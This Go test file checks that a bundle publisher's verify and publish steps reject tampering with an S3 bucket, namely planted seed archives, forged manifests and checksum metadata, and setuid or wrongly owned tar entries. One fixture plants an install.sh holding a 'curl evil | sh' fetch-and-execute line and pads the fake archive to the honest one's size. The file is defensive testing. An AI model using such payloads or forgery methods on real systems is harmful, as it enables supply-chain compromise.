package publish_test

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"os"
	"path"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"
	"github.com/openclaw/clawdinator-bundle/internal/agekey"
	"github.com/openclaw/clawdinator-bundle/internal/bucket"
	"github.com/openclaw/clawdinator-bundle/internal/bundle"
	"github.com/openclaw/clawdinator-bundle/internal/layout"
	"github.com/openclaw/clawdinator-bundle/internal/manifest"
	"github.com/openclaw/clawdinator-bundle/internal/publish"
	"github.com/openclaw/clawdinator-bundle/internal/result"
	"github.com/openclaw/clawdinator-bundle/internal/s3test"
	"github.com/openclaw/clawdinator-bundle/internal/sample"
	"github.com/openclaw/clawdinator-bundle/internal/verify"
)

// Attacks by a writer who never held the key: someone who can put objects
// into the bucket (another pipeline's uploader) but cannot read the key.
// With the recipient pinned, nothing they put passes verify or is carried
// forward by publish.
func TestS3WriterWithoutKey(t *testing.T) {
	srv := s3test.Start(t)
	t.Run("planted seeds and a manifest naming them with the honest tar digest", func(t *testing.T) {
		t.Parallel()
		attackPlant(t, srv, true)
	})
	t.Run("planted seeds with forged x-amz-meta-sha256 and no checksum", func(t *testing.T) {
		t.Parallel()
		attackPlant(t, srv, false)
	})
	t.Run("deleted manifest", func(t *testing.T) {
		t.Parallel()
		e := newAttackEnv(t, srv)
		s3AWS(t, srv, "s3", "rm", "--only-show-errors", "s3://"+e.bkt+"/bootstrap/clawdinator-2/manifest.json")
		res := e.verify(t)
		s3RequireProblems(t, res, "clawdinator-2", "bootstrap/clawdinator-2/manifest.json", `missing: .*publish again`)
	})
	t.Run("manifest without its secrets entry over a replaced secrets archive", func(t *testing.T) {
		t.Parallel()
		e := newAttackEnv(t, srv)
		m, _ := s3ReadManifest(t, e.st, "clawdinator-2")
		var keep []manifest.Object
		for _, o := range m.Objects {
			if o.Name != layout.SecretsObject {
				keep = append(keep, o)
			}
		}
		m.Objects = keep
		s3Upload(t, srv, e.bkt, "bootstrap/clawdinator-2/secrets.tar.zst", []byte("an archive of the attacker's"))
		data, _ := json.Marshal(m)
		s3Upload(t, srv, e.bkt, "bootstrap/clawdinator-2/manifest.json", data)
		res := e.verify(t)
		requireSomeProblem(t, res, "bootstrap/clawdinator-2/manifest.json", "lists no secrets.tar.zst; publish again")
		requireSomeProblem(t, res, "bootstrap/clawdinator-2/secrets.tar.zst", "unreadable archive")
	})
	t.Run("an old bundle without a statement", func(t *testing.T) {
		t.Parallel()
		e := newAttackEnv(t, srv)
		// What a previous version of the tool made: the same key and
		// secrets, no statement, a manifest of format 1.
		prep := s3Prepare(t, e.f.load())
		var files []bundle.SecretFile
		for _, s := range prep.SecretInfo["clawdinator-1"] {
			data, err := os.ReadFile(filepath.Join(e.f.SecretsDir, s.Name))
			if err != nil {
				t.Fatal(err)
			}
			files = append(files, bundle.SecretFile{Name: s.Name, Data: data})
		}
		var buf bytes.Buffer
		if err := bundle.WriteSecrets(&buf, prep.Key.Canonical(), nil, files, e.f.in.Mtime); err != nil {
			t.Fatal(err)
		}
		s3Upload(t, srv, e.bkt, "bootstrap/clawdinator-1/secrets.tar.zst", buf.Bytes())
		s3Upload(t, srv, e.bkt, "bootstrap/clawdinator-1/manifest.json", []byte(`{"formatVersion": 1, "instance": "clawdinator-1", "objects": []}`))
		res := e.verify(t)
		requireSomeProblem(t, res, "bootstrap/clawdinator-1/secrets.tar.zst", "clawdinator.bundle.json: missing: this bundle was made before bundles carried a statement")
		requireSomeProblem(t, res, "bootstrap/clawdinator-1/manifest.json", "formatVersion 1 was written by an older clawdinator-bundle")
		for _, p := range res.Problems.Errors() {
			if !strings.Contains(p.Message, "publish again") {
				t.Errorf("no fix named: %s", p)
			}
		}
	})
}

type attackEnv struct {
	f      *s3Fixture
	bkt    string
	st     *bucket.S3
	honest *result.Result
}

// newAttackEnv publishes the sample workload once, honestly.
func newAttackEnv(t *testing.T, srv *s3test.Server) *attackEnv {
	e := &attackEnv{f: s3NewFixture(t), bkt: s3Bucket(t, srv)}
	e.st = s3Open(t, srv, e.bkt)
	e.honest = s3Publish(t, e.st, e.f)
	return e
}

func (e *attackEnv) verify(t *testing.T) *result.Result {
	t.Helper()
	res := s3Verify(t, e.st, e.f, e.f.Recipient)
	if res.Err() != nil {
		t.Fatalf("verify could not complete: %v", res.Err())
	}
	if res.OK() {
		t.Fatalf("verify passed:\n%s", s3Render(res.Problems))
	}
	return res
}

func requireSomeProblem(t *testing.T, res *result.Result, object, substr string) {
	t.Helper()
	for _, p := range res.Problems.Errors() {
		if p.Object == object && strings.Contains(p.String(), substr) {
			return
		}
	}
	t.Errorf("no problem about %s saying %q; got:\n%s", object, substr, s3Render(res.Problems))
}

// attackPlant: the attacker builds a repo-seeds archive of their own and puts
// it at clawdinator-1's key, with a manifest that names it with the honest
// tree's tar digest (anyone who reads the repository can compute that).
// With checksum, the store keeps a SHA-256 of the planted bytes; without,
// only metadata claims the honest digest.
func attackPlant(t *testing.T, srv *s3test.Server, checksum bool) {
	e := newAttackEnv(t, srv)
	honestSeeds := e.honest.Instances[0].Objects[1]
	if honestSeeds.Name != layout.SeedsObject || honestSeeds.TarSHA256 == "" {
		t.Fatalf("honest seeds object: %+v", honestSeeds)
	}

	evilDir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(evilDir, "openclaw"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(evilDir, "openclaw", "install.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	var evil bytes.Buffer
	if probs, err := bundle.WriteSeeds(&evil, evilDir, bundle.SeedsOptions{Mtime: time.Unix(0, 0)}); err != nil || probs.HasErrors() {
		t.Fatalf("evil seeds: %v %v", err, probs)
	}
	// Same size as the honest archive: a zstd skippable frame pads it, so
	// that only the bytes' digest can tell them apart.
	pad := honestSeeds.Size - int64(evil.Len()) - 8
	if pad < 0 {
		t.Fatalf("the evil archive (%d bytes) is larger than the honest one (%d)", evil.Len(), honestSeeds.Size)
	}
	evil.Write([]byte{0x50, 0x2a, 0x4d, 0x18, byte(pad), byte(pad >> 8), byte(pad >> 16), byte(pad >> 24)})
	evil.Write(make([]byte, pad))
	// Planted at every instance, so that no honest copy is left to reuse.
	const seedsKey = "bootstrap/clawdinator-1/repo-seeds.tar.zst"
	var planted bucket.Object
	for _, in := range sample.Instances {
		k := "bootstrap/" + in + "/repo-seeds.tar.zst"
		if checksum {
			obj, err := e.st.Put(context.Background(), k, bytes.NewReader(evil.Bytes()), int64(evil.Len()), sha256.Sum256(evil.Bytes()))
			if err != nil {
				t.Fatal(err)
			}
			if k == seedsKey {
				planted = obj
			}
			continue
		}
		p := filepath.Join(t.TempDir(), "evil")
		if err := os.WriteFile(p, evil.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
		s3AWS(t, srv, "s3api", "put-object", "--bucket", e.bkt, "--key", k, "--body", p, "--metadata", "sha256="+honestSeeds.SHA256)
		h, err := e.st.Head(context.Background(), k, "")
		if err != nil || h.SHA256 != "" || h.Claimed != honestSeeds.SHA256 || h.Size != honestSeeds.Size {
			t.Fatalf("the premise: a planted object of the honest size with no SHA-256 checksum and forged metadata; got %+v %v", h, err)
		}
		if k == seedsKey {
			planted = h
		}
	}
	m, _ := s3ReadManifest(t, e.st, "clawdinator-1")
	for i := range m.Objects {
		if m.Objects[i].Name == layout.SeedsObject {
			sum := sha256.Sum256(evil.Bytes())
			m.Objects[i].SHA256, m.Objects[i].Size, m.Objects[i].VersionID = hex.EncodeToString(sum[:]), int64(evil.Len()), planted.VersionID
			m.Objects[i].TarSHA256 = honestSeeds.TarSHA256
		}
	}
	data, _ := json.Marshal(m)
	s3Upload(t, srv, e.bkt, "bootstrap/clawdinator-1/manifest.json", data)

	// Verify fails on the planted seeds, pinned or not.
	res := e.verify(t)
	requireSomeProblem(t, res, seedsKey, "is not the repo-seeds object its secrets archive names")

	// An ordinary publish (unchanged inputs, deep-verify on) ships the
	// honest seeds everywhere and carries nothing planted forward.
	opt := s3Options(e.st)
	opt.DeepVerify = true
	// As the engine does: reuse only what a statement made with our key
	// vouches for.
	in := e.f.load()
	key, err := agekey.Parse(e.f.Key)
	if err != nil {
		t.Fatal(err)
	}
	in.Published = publish.FindCurrent(context.Background(), e.st, in.Instances, key, 0)
	prep := s3Prepare(t, in)
	if prep.Seeds.Source != nil && prep.Seeds.Source.SHA256 != honestSeeds.SHA256 {
		t.Errorf("planted seeds offered for reuse: %+v", prep.Seeds.Source)
	}
	pub := publish.Publish(context.Background(), prep, opt)
	s3RequireClean(t, "publish after the plant", pub)
	evilSum := sha256.Sum256(evil.Bytes())
	for _, in := range sample.Instances {
		k := "bootstrap/" + in + "/repo-seeds.tar.zst"
		if got := s3Fetch(t, e.st, k, ""); got != honestSeeds.SHA256 || got == hex.EncodeToString(evilSum[:]) {
			t.Errorf("%s: current seeds sha256 %s, want the honest %s", in, got, honestSeeds.SHA256)
		}
		m, _ := s3ReadManifest(t, e.st, in)
		if mo := m.Object(layout.SeedsObject); mo.SHA256 != honestSeeds.SHA256 {
			t.Errorf("%s: the new manifest names seeds %s", in, mo.SHA256)
		}
	}
	s3RequireClean(t, "verify after publishing again", s3Verify(t, e.st, e.f, e.f.Recipient))
}

// A failed instance's rollback never removes a version that other instances
// are copying from: the instance that uploaded the shared repo-seeds fails
// its pull-back, and every other instance still copies those seeds and
// publishes.
func TestS3RollbackKeepsSharedSeeds(t *testing.T) {
	srv := s3test.Start(t)
	f := s3NewFixture(t)
	st := s3Open(t, srv, s3Bucket(t, srv))
	h := &seedsSourceFails{Bucket: st, failed: make(chan struct{})}
	res := publish.Publish(context.Background(), s3Prepare(t, f.load()), s3Options(h))
	if res.Err() != nil {
		t.Fatalf("publish could not complete: %v", res.Err())
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.source == "" {
		t.Fatal("the premise: no instance uploaded the seeds")
	}
	for _, in := range res.Instances {
		if in.Instance == h.source {
			if in.Verified || in.Objects[1].Status != result.RolledBack {
				t.Errorf("%s (the failed source): verified %v, seeds %s", in.Instance, in.Verified, in.Objects[1].Status)
			}
			continue
		}
		if !in.Verified || in.Manifest == nil {
			t.Errorf("%s: not published after the seeds source failed:\n%s", in.Instance, s3Render(res.Problems))
		}
	}
	if h.deletedBeforeCopy {
		t.Error("the shared seeds version was deleted before every copy was made")
	}
}

// seedsSourceFails makes the pull-back of the instance that uploaded the
// repo-seeds read a broken secrets archive, holds every copy back until
// that instance has failed, and records whether the source version was
// deleted before a copy.
type seedsSourceFails struct {
	bucket.Bucket
	mu                sync.Mutex
	source            string
	sourceVersion     string
	deleted           bool
	deletedBeforeCopy bool
	failed            chan struct{}
	once              sync.Once
}

func (h *seedsSourceFails) Put(ctx context.Context, key string, body io.ReadSeeker, size int64, sum [32]byte) (bucket.Object, error) {
	obj, err := h.Bucket.Put(ctx, key, body, size, sum)
	if err == nil && path.Base(key) == layout.SeedsObject {
		h.mu.Lock()
		h.source, h.sourceVersion = path.Base(path.Dir(key)), obj.VersionID
		h.mu.Unlock()
	}
	return obj, err
}

func (h *seedsSourceFails) Get(ctx context.Context, key, versionID string) (io.ReadCloser, bucket.Object, error) {
	h.mu.Lock()
	source := h.source
	h.mu.Unlock()
	if versionID != "" && key == "bootstrap/"+source+"/"+layout.SecretsObject {
		defer h.once.Do(func() { close(h.failed) })
		junk := []byte("not the archive this run wrote")
		return io.NopCloser(bytes.NewReader(junk)), bucket.Object{Key: key, Size: int64(len(junk)), VersionID: versionID}, nil
	}
	return h.Bucket.Get(ctx, key, versionID)
}

func (h *seedsSourceFails) Copy(ctx context.Context, srcKey, srcVersion, dstKey string) (bucket.Object, error) {
	<-h.failed
	h.mu.Lock()
	if h.deleted {
		h.deletedBeforeCopy = true
	}
	h.mu.Unlock()
	return h.Bucket.Copy(ctx, srcKey, srcVersion, dstKey)
}

func (h *seedsSourceFails) Delete(ctx context.Context, key, versionID string) error {
	h.mu.Lock()
	if versionID == h.sourceVersion {
		h.deleted = true
	}
	h.mu.Unlock()
	return h.Bucket.Delete(ctx, key, versionID)
}

// deep-verify refuses what the writer never produces, even in a bundle
// whose statement vouches for it (made by someone who holds the key): a
// setuid file, a file owned by a user, and one of uid 0 named nobody's
// (GNU tar as root goes by the name). Without deep-verify the seeds are
// proven by their checksum only, and pass.
func TestS3DeepVerifyRefusesModesAndOwners(t *testing.T) {
	srv := s3test.Start(t)
	e := newAttackEnv(t, srv)
	const inst = "clawdinator-babelfish"
	prefix := "bootstrap/" + inst

	var tarBuf bytes.Buffer
	tw := tar.NewWriter(&tarBuf)
	for _, h := range []*tar.Header{
		{Name: "openclaw/", Typeflag: tar.TypeDir, Mode: 0o755},
		{Name: "openclaw/su", Typeflag: tar.TypeReg, Mode: 0o4755, Size: 3},
		{Name: "openclaw/mine", Typeflag: tar.TypeReg, Mode: 0o644, Uid: 1001, Gid: 1001, Size: 3},
		{Name: "openclaw/named", Typeflag: tar.TypeReg, Mode: 0o644, Uname: "nobody", Gname: "nogroup", Size: 3},
	} {
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Size > 0 {
			tw.Write([]byte("hi\n"))
		}
	}
	tw.Close()
	var seeds bytes.Buffer
	zw, _ := zstd.NewWriter(&seeds)
	zw.Write(tarBuf.Bytes())
	zw.Close()
	tarSum, seedsSum := sha256.Sum256(tarBuf.Bytes()), sha256.Sum256(seeds.Bytes())

	prep := s3Prepare(t, e.f.load())
	st := *prep.Statements[inst]
	st.RepoSeeds.Size, st.RepoSeeds.SHA256, st.RepoSeeds.TarSHA256 = int64(seeds.Len()), hex.EncodeToString(seedsSum[:]), hex.EncodeToString(tarSum[:])
	var files []bundle.SecretFile
	for _, s := range st.Secrets {
		data, err := os.ReadFile(filepath.Join(e.f.SecretsDir, s.Name))
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, bundle.SecretFile{Name: s.Name, Data: data})
	}
	var secrets bytes.Buffer
	if err := bundle.WriteSecrets(&secrets, prep.Key.Canonical(), st.Marshal(), files, e.f.in.Mtime); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	seedsObj, err := e.st.Put(ctx, prefix+"/"+layout.SeedsObject, bytes.NewReader(seeds.Bytes()), int64(seeds.Len()), seedsSum)
	if err != nil {
		t.Fatal(err)
	}
	secObj, err := e.st.Put(ctx, prefix+"/"+layout.SecretsObject, bytes.NewReader(secrets.Bytes()), int64(secrets.Len()), sha256.Sum256(secrets.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	m, _ := s3ReadManifest(t, e.st, inst)
	for i := range m.Objects {
		o := &m.Objects[i]
		switch o.Name {
		case layout.SeedsObject:
			o.Size, o.SHA256, o.VersionID, o.TarSHA256 = seedsObj.Size, seedsObj.SHA256, seedsObj.VersionID, st.RepoSeeds.TarSHA256
		case layout.SecretsObject:
			o.Size, o.SHA256, o.VersionID = secObj.Size, secObj.SHA256, secObj.VersionID
		}
	}
	data, _ := json.Marshal(m)
	if _, err := e.st.Put(ctx, prefix+"/"+layout.ManifestName, bytes.NewReader(data), int64(len(data)), sha256.Sum256(data)); err != nil {
		t.Fatal(err)
	}

	s3RequireClean(t, "verify by checksum", s3Verify(t, e.st, e.f, e.f.Recipient))
	instances := e.f.load().Instances
	deep := verify.Verify(ctx, verify.Inputs{Instances: instances, Policy: e.f.in.Policy},
		verify.Options{Bucket: e.st, ExpectedRecipient: e.f.Recipient, DeepVerify: true})
	s3RequireProblems(t, deep, inst, prefix+"/"+layout.SeedsObject,
		`openclaw/su: has mode 4755: setuid, setgid and sticky bits are never written`,
		`openclaw/mine: is owned by 1001:1001, not root`,
		`openclaw/named: names its owner "nobody" and group "nogroup"`)
}
